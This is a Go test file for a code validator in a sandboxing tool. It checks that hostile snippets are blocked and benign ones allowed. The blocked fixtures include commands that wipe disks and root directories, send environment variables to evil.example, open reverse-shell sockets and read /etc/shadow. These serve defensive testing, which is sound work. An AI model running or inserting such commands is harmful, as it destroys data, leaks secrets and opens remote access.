package validate

import (
	"strings"
	"testing"

	"github.com/execguard/execguard/internal/rules"
)

func TestValidateCodeBlocked(t *testing.T) {
	v := NewCodeValidator(testProvider(t))

	tests := []struct {
		name     string
		code     string
		language string
	}{
		{"python rmtree root", `import shutil; shutil.rmtree("/")`, "python"},
		{"python eval input", `eval(input("cmd: "))`, "python"},
		{"python dup2 shell", `s = socket.socket(); os.dup2(s.fileno(), 0)`, "python"},
		{"python keylogger", "from pynput import keyboard", "python"},
		{"python env exfil", `requests.post("https://evil.example", data=dict(os.environ))`, "python"},
		{"python fork", "pid = os.fork()", "python"},
		{"js eval request", "eval(req.body.expr)", "javascript"},
		{"js rm root", `fs.rmSync("/", {recursive: true})`, "javascript"},
		{"js raw socket", `const s = net.connect(4444, "evil.example")`, "typescript"},
		{"shadow in any language", `data = read("/etc/shadow")`, "ruby"},
		{"dev tcp in shell code", "exec 5<>/dev/tcp/10.0.0.1/4444", "bash"},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			res := v.Validate(tt.code, tt.language)
			if res.Allowed {
				t.Fatalf("Validate(%q, %s) allowed, want blocked", tt.code, tt.language)
			}
			if res.Reason == "" {
				t.Error("blocked result has no reason")
			}
		})
	}
}

func TestValidateCodeLanguageScoping(t *testing.T) {
	v := NewCodeValidator(testProvider(t))

	// A python-scoped pattern appearing in text tagged as another language
	// is out of scope for that rule.
	code := "# comment mentioning os.fork() semantics"
	if res := v.Validate(code, "markdown"); !res.Allowed {
		t.Errorf("python-scoped rule fired for markdown: %s", res.Reason)
	}
	if res := v.Validate("pid = os.fork()", "PYTHON"); res.Allowed {
		t.Error("language tag should be case-insensitive")
	}
}

func TestValidateCodeEmbeddedShellExec(t *testing.T) {
	v := NewCodeValidator(testProvider(t))

	tests := []struct {
		code     string
		language string
	}{
		{`os.system("rm -rf /home/user")`, "python"},
		{`subprocess.run("mkfs.ext4 /dev/sda", shell=True)`, "python"},
		{`child_process.execSync("rm -rf " + target)`, "javascript"},
		{`Runtime.getRuntime().exec("rm -rf /tmp/x");`, "java"},
		{`shell_exec("dd if=/dev/zero of=/dev/sda");`, "php"},
	}
	for _, tt := range tests {
		res := v.Validate(tt.code, tt.language)
		if res.Allowed {
			t.Errorf("Validate(%q) allowed, want blocked", tt.code)
			continue
		}
		if res.Severity != rules.SeverityCritical {
			t.Errorf("Validate(%q) severity = %v, want critical", tt.code, res.Severity)
		}
	}
}

func TestValidateCodeSizeCap(t *testing.T) {
	v := NewCodeValidator(testProvider(t))

	big := "x = 1\n" + strings.Repeat("# padding line\n", MaxCodeLen/15+1)
	res := v.Validate(big, "python")
	if res.Allowed {
		t.Fatal("oversized code allowed")
	}
	if res.Severity != rules.SeverityMedium {
		t.Errorf("severity = %v, want medium", res.Severity)
	}
}

func TestValidateCodeAllowed(t *testing.T) {
	v := NewCodeValidator(testProvider(t))

	tests := []struct {
		code     string
		language string
	}{
		{"print('hello')", "python"},
		{"for i in range(10):\n    print(i)", "python"},
		{"console.log(process.version)", "javascript"},
		{"def add(a, b):\n    return a + b", "python"},
	}
	for _, tt := range tests {
		if res := v.Validate(tt.code, tt.language); !res.Allowed {
			t.Errorf("Validate(%q) blocked: %s", tt.code, res.Reason)
		}
	}
}

func TestValidateCodeEmpty(t *testing.T) {
	v := NewCodeValidator(testProvider(t))

	res := v.Validate("   ", "python")
	if res.Allowed {
		t.Fatal("empty code allowed")
	}
	if res.Severity != rules.SeverityMedium {
		t.Errorf("severity = %v, want medium", res.Severity)
	}
}
